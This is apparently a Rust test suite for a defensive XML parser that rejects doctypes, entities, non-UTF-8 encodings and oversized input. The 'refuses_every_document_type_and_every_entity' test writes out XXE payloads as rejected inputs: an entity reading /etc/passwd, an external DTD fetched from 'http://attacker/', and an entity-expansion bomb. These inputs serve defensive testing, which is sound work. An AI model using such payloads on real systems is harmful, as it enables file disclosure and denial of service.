use proptest::prelude::*;
use quick_xml::escape::escape;
use secrecy::ExposeSecret as _;

use super::*;

/// The tree as text: `{namespace}name[@{namespace}name=value](text; children)`.
fn drawn(element: &Element) -> String {
    let named = |namespace: &Option<String>, name: &str| match namespace {
        Some(namespace) => format!("{{{namespace}}}{name}"),
        None => name.to_owned(),
    };
    let mut parts = vec![named(&element.namespace, &element.name)];
    for Attribute { namespace, name, value } in &element.attributes {
        parts.push(format!("@{}={}", named(namespace, name), value.expose_secret()));
    }
    parts.push(format!("({:?}", element.text.expose_secret()));
    parts.extend(element.children.iter().map(drawn));
    parts.join(" ") + ")"
}

fn read(text: &str) -> Result<String, XmlFault> {
    parse(text.as_bytes()).map(|element| drawn(&element))
}

fn nested(depth: usize) -> String {
    "<a>".repeat(depth) + &"</a>".repeat(depth)
}

#[test]
fn reads_elements_attributes_and_text() {
    for (text, tree) in [
        (
            "<?xml version=\"1.0\" encoding='UTF-8' standalone='yes' ?>\n<!-- x -->\n\
             <login><username>admin</username><password> p w\n</password></login>\n<!-- y --> ",
            r#"login ("" username ("admin") password (" p w\n"))"#,
        ),
        ("<a/>", r#"a ("")"#),
        ("\u{feff}<a />", r#"a ("")"#),
        ("<a>x<b/>y<!-- z -->z</a >", r#"a ("xyz" b (""))"#),
        ("<a>&lt;&gt;&amp;&apos;&quot;&#65;&#x1F600;</a>", r#"a ("<>&'\"A😀")"#),
        ("<a>1<![CDATA[<b>&amp;]]]]><![CDATA[>]]></a>", r#"a ("1<b>&amp;]]>")"#),
        ("<a>\r\n\r]]&gt;</a>", r#"a ("\n\n]]>")"#),
        ("<a b = '1'\nc=\"&lt;&#10;'\"\n>&#13;</a>", "a @b=1 @c=<\n' (\"\\r\")"),
        ("<ü><b-1.x/></ü>", r#"ü ("" b-1.x (""))"#),
    ] {
        assert_eq!(read(text).as_deref(), Ok(tree), "{text}");
    }
}

#[test]
fn resolves_namespaces_where_they_stand() {
    for (text, tree) in [
        ("<a xmlns='n'><b/><c xmlns=''/></a>", r#"{n}a ("" {n}b ("") c (""))"#),
        ("<p:a xmlns:p='n'><b p:c='1' c='2'/></p:a>", r#"{n}a ("" b @{n}c=1 @c=2 (""))"#),
        ("<p:a xmlns:p='n'><p:a xmlns:p='m'/><p:b/></p:a>", r#"{n}a ("" {m}a ("") {n}b (""))"#),
        ("<a xmlns='http://h/?a=1&amp;b=2'/>", r#"{http://h/?a=1&b=2}a ("")"#),
        ("<a xml:lang='en'/>", r#"a @{http://www.w3.org/XML/1998/namespace}lang=en ("")"#),
    ] {
        assert_eq!(read(text).as_deref(), Ok(tree), "{text}");
    }
}

#[test]
fn refuses_what_namespaces_forbid() {
    for text in [
        "<p:a/>",
        "<a p:b='1'/>",
        "<a><p:b xmlns:p='n'/><p:c/></a>",
        "<a xmlns:p=''/>",
        "<a xmlns:p='n' xmlns:q='n' p:b='1' q:b='2'/>",
        "<a xmlns:xmlns='n'/>",
        "<a xmlns:xml='n'/>",
        "<a xmlns:p='http://www.w3.org/XML/1998/namespace'/>",
        "<a xmlns:='n'/>",
        "<:a/>",
        "<a:/>",
        "<a:b:c xmlns:a='n'/>",
    ] {
        assert_eq!(read(text), Err(XmlFault::Malformed), "{text}");
    }
    let long = format!("<a xmlns='{}'/>", "n".repeat(1025));
    assert_eq!(read(&long), Err(XmlFault::Namespaces));
    let declared = |count: usize| {
        let one = |tag: usize| {
            let names: Vec<_> =
                (0..32).map(|number| format!(" xmlns:p{tag}x{number}='n'")).collect();
            format!("<a{}>", names.concat())
        };
        (0..count).map(one).collect::<Vec<_>>().concat() + &"</a>".repeat(count)
    };
    assert!(read(&declared(4)).is_ok());
    assert_eq!(read(&declared(5)), Err(XmlFault::Namespaces));
}

#[test]
fn refuses_every_document_type_and_every_entity() {
    for text in [
        "<!DOCTYPE a><a/>",
        "<!doctype a><a/>",
        "<!DOCTYPE><a/>",
        "<!DOCTYPE a",
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
        "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://attacker/x.dtd\"> %x;]><a/>",
        "<!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;\">]><l>&b;</l>",
        "<?xml version='1.0'?><!-- --><!DOCTYPE a SYSTEM 'a.dtd'><a/>",
        "<a/><!DOCTYPE a>",
        "<a><!DOCTYPE a></a>",
    ] {
        assert_eq!(read(text), Err(XmlFault::Doctype), "{text}");
    }
    for text in ["<a>&x;</a>", "<a>&nbsp;</a>", "<a>&LT;</a>", "<a>&;</a>", "<a b='&x;'/>"] {
        assert_eq!(read(text), Err(XmlFault::Entity), "{text}");
    }
    for text in ["<?php x?><a/>", "<a><?x?></a>", "<a/><?x y?>", "<?XML version='1.0'?><a/>"] {
        assert_eq!(read(text), Err(XmlFault::Instruction), "{text}");
    }
}

#[test]
fn refuses_every_encoding_but_utf_8() {
    let utf16 = |text: &str, bytes: fn(u16) -> [u8; 2]| -> Vec<u8> {
        text.encode_utf16().flat_map(bytes).collect()
    };
    let mut refused = vec![b"<a>\xff</a>".to_vec(), b"<a>\xed\xa0\x80</a>".to_vec()];
    for text in ["<a/>", "\u{feff}<a/>", "<?xml version='1.0' encoding='utf-16'?><a/>"] {
        refused.push(utf16(text, u16::to_be_bytes));
        refused.push(utf16(text, u16::to_le_bytes));
    }
    for name in ["utf-16", "UTF-7", "iso-8859-1", "us-ascii", "", "utf-8 "] {
        refused.push(format!("<?xml version='1.0' encoding='{name}'?><a/>").into_bytes());
    }
    for bytes in refused {
        assert_eq!(parse(&bytes).err(), Some(XmlFault::Encoding), "{bytes:?}");
    }
}

// Documents, parted by `|`.
const MALFORMED_TAGS: &str = "x|<|<>|<a|<a>|</a>|<a></b>|<a><b></a></b>|<a/></a>|<a></A>|<a/><b/>\
    |< a/>|<a></ a>|<a></a b='1'>|<a/ >|<1/>|<-a/>|<a<b/>|<a/b/>|<a\u{a0}b='1'/>|<a b/>|<a b=1/>\
    |<a b='1/>|<a b='1' b='2'/>|<a b='1'c='2'/>|<a 'b'='1'/>|<a b='<'/>|<a b='&#0;'/>|<a b='&#1;'/>\
    |<a b='&'/>";

const MALFORMED_TEXTS: &str = "<a/>x|x<a/>|<a/>&lt;|&#32;<a/>|<a/><![CDATA[ ]]>|<a/>\u{feff}\
    |\u{feff}\u{feff}<a/>|<a>&</a>|<a>&lt</a>|<a>&#;</a>|<a>&#x;</a>|<a>&#X41;</a>|<a>&#+65;</a>\
    |<a>&#0;</a>|<a>&#x1f;</a>|<a>&#xd800;</a>|<a>&#xfffe;</a>|<a>&#99999999999;</a>|<a>]]></a>\
    |<a><![CDATA[</a>|<a><![cdata[x]]></a>|<abc>\0</abc>|<a>\u{1}</a>|<a>\u{ffff}</a>|<!-- x -->\
    |<!-- --|<!-- -- --><a/>|<!x><a/>";

const MALFORMED_DECLARATIONS: &str = "<?xml version='1.0'?>|<?xml version='1.0'|<?xml?><a/>\
    | <?xml version='1.0'?><a/>|<a><?xml version='1.0'?></a>|<a/><?xml version='1.0'?>\
    |<?xml ?><a/>|<?xml version='1.1'?><a/>|<?xml encoding='utf-8'?><a/>\
    |<?xml version='1.0' version='1.0'?><a/>|<?xml version='1.0' x='1'?><a/>\
    |<?xml version='1.0' standalone='maybe'?><a/>|<?xml version='1.0'encoding='utf-8'?><a/>\
    |<?xml version='1.0' standalone='yes' encoding='utf-8'?><a/>";

#[test]
fn refuses_what_is_not_well_formed() {
    for texts in [MALFORMED_TAGS, MALFORMED_TEXTS, MALFORMED_DECLARATIONS] {
        for text in texts.split('|') {
            assert_eq!(read(text), Err(XmlFault::Malformed), "{text:?}");
        }
    }
    for text in ["", " ", "\r\n\t", "\u{feff}", "\u{feff} "] {
        assert_eq!(read(text), Err(XmlFault::Empty), "{text:?}");
    }
}

#[test]
fn refuses_what_is_too_deep_or_too_much() {
    assert!(read(&nested(32)).is_ok());
    assert_eq!(read(&nested(33)), Err(XmlFault::TooDeep));
    assert_eq!(read(&("<a>".repeat(32) + "<b/>")), Err(XmlFault::TooDeep));
    assert_eq!(read(&"<a>".repeat(100_000)), Err(XmlFault::TooDeep));
    let attributes = |count: usize| {
        let attributes: Vec<_> = (0..count).map(|number| format!(" a{number}=''")).collect();
        attributes.concat()
    };
    assert!(read(&format!("<a{}/>", attributes(32))).is_ok());
    assert_eq!(read(&format!("<a{}/>", attributes(33))), Err(XmlFault::TooManyAttributes));
    assert_eq!(read(&format!("<a{}/>", attributes(80_000))), Err(XmlFault::TooManyAttributes));
    let elements = |count: usize| format!("<r>{}</r>", "<a/>".repeat(count));
    assert!(read(&elements(1023)).is_ok());
    assert_eq!(read(&elements(1024)), Err(XmlFault::TooManyElements));
    assert_eq!(read(&elements(20_000)), Err(XmlFault::TooManyElements));
}

#[test]
fn shows_neither_text_nor_values() {
    let element = parse(b"<a b='hunter2'>hunter2<c>hunter2</c></a>").unwrap();
    assert!(!format!("{element:?}").contains("hunter2"));
}

proptest! {
    #[test]
    fn judges_any_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let _ = parse(&bytes);
    }

    #[test]
    fn judges_anything_like_xml(
        parts in proptest::collection::vec(
            prop_oneof![
                Just("<a>"), Just("</a>"), Just("<a:b"), Just(" xmlns:a='x'"), Just(">"), Just("/>"),
                Just("<!--"), Just("-->"), Just("<![CDATA["), Just("]]>"), Just("<?xml version='1.0'"),
                Just("?>"), Just("<!DOCTYPE"), Just("&lt;"), Just("&"), Just(";"), Just("&#x"),
                Just(" b='1'"), Just("'"), Just("\""), Just("="), Just("x"), Just("é"), Just("\r"),
            ],
            0..40,
        )
    ) {
        let _ = parse(parts.concat().as_bytes());
    }

    #[test]
    fn reads_what_was_written(
        name in "[a-zA-Z_][a-zA-Z0-9_.-]{0,10}",
        text in "[\t\n -\u{d7ff}\u{e000}-\u{fffd}\u{10000}-\u{10ffff}\r]{0,50}",
        value in "[ -\u{d7ff}]{0,50}",
    ) {
        prop_assume!(!name.starts_with("xmlns"));
        let written = format!("<{name} {name}='{}'>{}</{name}>", escape(&value), escape(&text));
        let element = parse(written.as_bytes()).unwrap();
        prop_assert_eq!(&element.name, &name);
        prop_assert_eq!(element.text.expose_secret(), &text);
        prop_assert_eq!(element.attributes[0].value.expose_secret(), &value);
    }
}
